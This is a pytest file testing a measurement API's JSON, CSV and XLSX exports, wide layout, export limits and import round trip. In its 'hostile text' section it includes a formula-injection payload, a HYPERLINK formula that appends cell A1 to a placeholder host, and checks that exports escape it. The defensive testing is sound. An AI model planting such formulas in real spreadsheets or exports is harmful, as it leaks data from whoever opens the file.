"""JSON, CSV (the exchange format for measurements) and XLSX, by Accept header or ?format=;
the wide layout; the export limit; and the round trip export -> import."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from divisions.models import OrgUnit
from domain.exchange.format import HEADER, MeasurementRow
from domain.exchange.reading import read_measurements
from indicators.editing import set_measurement
from indicators.imports.run import import_measurements
from indicators.models import Assessment, Import, Indicator, Measurement, MeasurementRevision
from scorecard.models import Action

BASE = "/api/v1"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
DIVISION = "measurements/?org_unit=div_nara&subtree=true"


def content_of(response) -> bytes:
    """The response's bytes, streamed (CSV exports) or not, read once and kept."""
    if not hasattr(response, "_body"):
        response._body = response.getvalue()
    return response._body


def stored() -> set[tuple]:
    return set(
        Measurement.objects.values_list(
            "indicator__code",
            "org_unit__code",
            "period",
            "breakdown",
            "value",
            "numerator",
            "denominator",
            "comment",
        )
    )


def as_tuples(rows: list[MeasurementRow]) -> set[tuple]:
    return {
        (
            r.indicator,
            r.org_unit,
            r.period,
            r.breakdown,
            r.value,
            r.numerator,
            r.denominator,
            r.comment,
        )
        for r in rows
    }


def test_json_by_default(api):
    response = api.get(f"{BASE}/measurements/")
    assert response["Content-Type"] == "application/json"
    first = response.json()["results"][0]
    assert {"indicator", "org_unit", "period", "breakdown", "value", "source_import"} <= set(first)
    assert isinstance(first["value"], str)  # exact: a decimal string, not a float


@pytest.mark.parametrize("how", ["query", "accept"])
def test_csv_is_the_exchange_format(api, how):
    if how == "query":
        response = api.get(f"{BASE}/{DIVISION}&format=csv")
    else:
        response = api.get(f"{BASE}/{DIVISION}", HTTP_ACCEPT="text/csv")
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="measurements.csv"'
    text = content_of(response).decode("utf-8")
    assert text.splitlines()[0] == ",".join(HEADER)
    parsed = list(read_measurements(io.BytesIO(content_of(response)), "export.csv"))
    assert all(isinstance(row, MeasurementRow) for row in parsed)
    assert as_tuples(parsed) == stored()


@pytest.mark.parametrize("how", ["query", "accept"])
def test_xlsx_reads_back_as_the_same_measurements(api, how):
    if how == "query":
        response = api.get(f"{BASE}/{DIVISION}&format=xlsx")
    else:
        response = api.get(f"{BASE}/{DIVISION}", HTTP_ACCEPT=XLSX)
    assert response.status_code == 200
    assert response["Content-Type"] == XLSX
    sheet = load_workbook(io.BytesIO(content_of(response)), read_only=True).worksheets[0]
    assert [c.value for c in next(sheet.iter_rows())] == list(HEADER)
    parsed = list(read_measurements(io.BytesIO(content_of(response)), "export.xlsx"))
    assert as_tuples(parsed) == stored()


@pytest.mark.parametrize(
    "resource",
    [
        "org-units",
        "perspectives",
        "strategic-goals",
        "scorecards",
        "success-factors",
        "indicators",
        "placements",
        "assessments",
        "perspective-assessments",
        "actions",
    ],
)
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_every_list_exports_as_a_table(api, resource, fmt):
    response = api.get(f"{BASE}/{resource}/?format={fmt}")
    assert response.status_code == 200
    json_rows = []
    url = f"{BASE}/{resource}/?page_size=1000"
    while url:
        body = api.get(url).json()
        json_rows += body["results"]
        url = body["next"]
    if fmt == "csv":
        table = list(csv.DictReader(io.StringIO(content_of(response).decode("utf-8"))))
        header = next(csv.reader(io.StringIO(content_of(response).decode("utf-8"))))
    else:
        sheet = load_workbook(io.BytesIO(content_of(response)), read_only=True).worksheets[0]
        all_rows = list(sheet.iter_rows(values_only=True))
        header, table = list(all_rows[0]), all_rows[1:]
    assert len(table) == len(json_rows)
    if json_rows:
        assert header == list(json_rows[0])


def test_a_status_in_the_export_is_the_stored_one(api):
    assessment = Assessment.objects.filter(computed_status="fulfilled").first()
    Assessment.objects.filter(pk=assessment.pk).update(
        override_status="not_fulfilled", override_comment="Se analysen"
    )
    response = api.get(
        f"{BASE}/assessments/?format=csv&indicator={assessment.indicator.code}"
        f"&org_unit={assessment.org_unit.code}&period={assessment.period}"
    )
    (row,) = csv.DictReader(io.StringIO(content_of(response).decode("utf-8")))
    assert row["status"] == "not_fulfilled" and row["computed_status"] == "fulfilled"


def test_wide_layout_one_column_per_period(api):
    response = api.get(f"{BASE}/measurements/?indicator=besok_filialer&layout=wide&format=csv")
    assert response.status_code == 200
    assert response["Content-Disposition"] == 'attachment; filename="measurements_wide.csv"'
    reader = csv.reader(io.StringIO(content_of(response).decode("utf-8")))
    header = next(reader)
    assert header == ["indicator", "org_unit", "breakdown", "2020-T2", "2021-T2", "2022-T2"]
    assert next(reader) == ["besok_filialer", "div_nara", "total", "1123", "1778", "6171"]
    status = api.get(f"{BASE}/assessments/?indicator=besok_filialer&layout=wide&format=xlsx")
    sheet = load_workbook(io.BytesIO(content_of(status)), read_only=True).worksheets[0]
    header, *lines = list(sheet.iter_rows(values_only=True))
    assert header[:2] == ("indicator", "org_unit") and "2022-T2" in header
    assert (
        lines[0][header.index("2022-T2")]
        == Assessment.objects.get(
            indicator__code="besok_filialer", org_unit__code="div_nara", period="2022-T2"
        ).status
    )


@pytest.mark.parametrize(
    "query", ["layout=wide", "layout=wide&format=json", "layout=wide&format=csv&page_size=5"]
)
def test_wide_layout_is_for_tables_only(api, query):
    response = api.get(f"{BASE}/measurements/?{query}")
    if "format=csv" in query:
        assert response.status_code == 200
    else:
        assert response.status_code == 400 and "layout" in response.json()


def test_wide_layout_only_where_it_exists(api):
    response = api.get(f"{BASE}/actions/?layout=wide&format=csv")
    assert response.status_code == 400
    assert response["Content-Type"] == "application/json"


def test_an_export_over_the_limit_says_how_to_page(api, settings):
    settings.STYRKORT_API_EXPORT_LIMIT = 10
    response = api.get(f"{BASE}/measurements/?format=csv")
    assert response.status_code == 400
    assert response["Content-Type"] == "application/json"
    body = response.json()
    assert body["code"] == "export_too_large" and body["limit"] == 10
    assert "page_size" in body["detail"] and "next" in body["detail"]
    assert "indicator" in body["detail"]
    narrow = api.get(f"{BASE}/measurements/?format=csv&indicator=besok_filialer")
    assert narrow.status_code == 200
    # JSON pages are not limited: that is the way to page through everything.
    assert api.get(f"{BASE}/measurements/?page_size=1000").status_code == 200


def test_a_division_exported_as_csv_imports_into_an_empty_database_unchanged(api):
    response = api.get(f"{BASE}/{DIVISION}&format=csv")
    exported = content_of(response)  # streamed: read before the rows go
    before = stored()
    assert len(before) == Measurement.objects.count() > 50
    # Empty the data (the definition stays: it is the other half of the exchange).
    MeasurementRevision.objects.all().delete()
    Assessment.objects.all().delete()
    Measurement.objects.all().delete()
    Import.objects.all().delete()
    assert not Measurement.objects.exists()
    result = import_measurements(fileobj=io.BytesIO(exported), filename="export.csv")
    assert result.created == len(before) and result.changed == 0
    assert stored() == before
    again = api.get(f"{BASE}/{DIVISION}&format=csv")
    assert content_of(again) == exported


def test_an_error_is_json_whatever_format_was_asked(clients):
    response = clients["board_member"].post(
        f"{BASE}/measurements/?format=csv", {"value": 1}, format="json"
    )
    assert response.status_code == 403
    assert response["Content-Type"] == "application/json"


def test_history_of_a_measurement(clients, cast):
    admin, api = cast["administrator"], clients["analyst"]
    measurement = Measurement.objects.get(
        indicator__code="besok_filialer", org_unit__code="div_nara", period="2022-T2"
    )
    clients["manager"].patch(
        f"{BASE}/measurements/{measurement.pk}/",
        {"value": 6200, "comment": "rättad"},
        format="json",
    )
    set_measurement(
        user=admin,
        indicator=Indicator.objects.get(code="besok_filialer"),
        org_unit=OrgUnit.objects.get(code="div_nara"),
        period="2022-T2",
        value=6300,
    )
    history = api.get(f"{BASE}/measurements/{measurement.pk}/history/").json()
    assert [v["value"] for v in history] == ["6300", "6200", "6171"]
    assert history[0]["valid_to"] is None and history[0]["entered_by"] == admin.username
    assert history[1]["entered_by"] == "chef.api" and history[1]["comment"] == "rättad"
    assert history[2]["source_import"] is not None and history[2]["source_row"] == 2
    assert history[1]["valid_to"] == history[0]["valid_from"]
    csv_history = api.get(f"{BASE}/measurements/{measurement.pk}/history/?format=csv")
    assert csv_history.content.decode().splitlines()[0].startswith("value,numerator")


def test_post_is_an_upsert_201_then_200(clients):
    manager = clients["manager"]
    body = {
        "indicator": "besok_filialer",
        "org_unit": "div_nara",
        "period": "2023-t1",
        "value": "12.50",
    }
    created = manager.post(f"{BASE}/measurements/", body, format="json")
    assert created.status_code == 201, content_of(created)
    assert created.json()["period"] == "2023-T1" and created.json()["breakdown"] == "total"
    replaced = manager.post(f"{BASE}/measurements/", {**body, "value": 13}, format="json")
    assert replaced.status_code == 200 and replaced.json()["id"] == created.json()["id"]
    assert replaced.json()["entered_by"] == "chef.api"
    bad = manager.post(f"{BASE}/measurements/", {**body, "breakdown": "kids"}, format="json")
    assert bad.status_code == 400 and "breakdown" in bad.json()


# --------------------------------------------------------------------------- hostile text

# Word's manual line break (Shift+Enter), and a text Excel would run as a formula.
LINE_BREAK_TEXT = "Rad ett\x0bRad två"
FORMULA_TEXT = '=HYPERLINK("http://example.invalid/?"&A1;"Klicka")'


def test_a_control_character_in_stored_text_neither_fails_nor_duplicates_a_write(clients):
    manager = clients["manager"]
    body = {
        "org_unit": "avp_pajala",
        "perspective": "medarbetare",
        "goal": FORMULA_TEXT,
        "description": LINE_BREAK_TEXT,
    }
    created = manager.post(f"{BASE}/actions/?format=xlsx", body, format="json")
    assert created.status_code == 201  # the row was written, and the answer says so
    assert created["Content-Type"] == "application/json"  # tables are for lists only
    assert Action.objects.filter(description=LINE_BREAK_TEXT).count() == 1

    listed = manager.get(f"{BASE}/actions/?org_unit=avp_pajala&format=xlsx")
    assert listed.status_code == 200
    sheet = load_workbook(io.BytesIO(content_of(listed))).worksheets[0]
    header = [cell.value for cell in sheet[1]]
    row = next(r for r in sheet.iter_rows(min_row=2) if r[header.index("goal")].value)
    description = row[header.index("description")]
    assert description.value == "Rad ett\nRad två"  # the line break the writer meant
    goal = row[header.index("goal")]
    assert (goal.value, goal.data_type) == (FORMULA_TEXT, "s")  # text, not a formula

    as_csv = manager.get(f"{BASE}/actions/?org_unit=avp_pajala&format=csv")
    record = next(csv.DictReader(io.StringIO(content_of(as_csv).decode("utf-8"))))
    assert record["goal"] == "'" + FORMULA_TEXT  # a spreadsheet opening it shows the text
    assert record["description"] == LINE_BREAK_TEXT  # CSV carries every character


def test_a_formula_in_a_comment_is_escaped_in_csv_and_read_back_unchanged(api, nara):
    measurement = Measurement.objects.filter(org_unit__code="avp_pajala").order_by("pk").first()
    measurement.comment = "=1+1"
    measurement.save(update_fields=["comment"])
    response = api.get(f"{BASE}/measurements/?org_unit=avp_pajala&format=csv")
    assert "'=1+1" in content_of(response).decode("utf-8")
    parsed = list(read_measurements(io.BytesIO(content_of(response)), "export.csv"))
    assert "=1+1" in {row.comment for row in parsed}
    assert all(isinstance(row.value, Decimal) for row in parsed)  # numbers stay numbers


@pytest.mark.parametrize("resource", ["assessments", "aggregates"])
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_filtered_export_comes_in_id_order(api, resource, fmt):
    query = "org_unit=div_nara&subtree=true"
    response = api.get(f"{BASE}/{resource}/?{query}&format={fmt}")
    assert response.status_code == 200
    if fmt == "csv":
        rows = csv.DictReader(io.StringIO(content_of(response).decode("utf-8")))
        ids = [int(row["id"]) for row in rows]
    else:
        sheet = load_workbook(io.BytesIO(content_of(response)), read_only=True).worksheets[0]
        ids = [row[0] for row in list(sheet.iter_rows(values_only=True))[1:]]
    expected = api.get(f"{BASE}/{resource}/?{query}&page_size=1000").json()["results"]
    assert ids == sorted(ids) == [row["id"] for row in expected] and len(ids) >= 2


def test_an_export_sorts_what_its_filters_find_rather_than_walk_the_key():
    # By the bare id, PostgreSQL read a third of 1.8 million assessments along the primary
    # key for one division's year (bench/exports.py); by id + 0 it sorts what it finds.
    from api.base import sorted_by_filters
    from api.values.views import AggregateViewSet, AssessmentViewSet

    for view in (AssessmentViewSet, AggregateViewSet):
        queryset = sorted_by_filters(view.queryset.filter(org_unit__code="div_nara"))
        assert queryset.query.order_by == ("sort_id",)
        assert '"id" + 0) AS "sort_id"' in str(queryset.query)
    unordered = Measurement.objects.all()
    assert sorted_by_filters(unordered) is unordered  # no order asked: none added
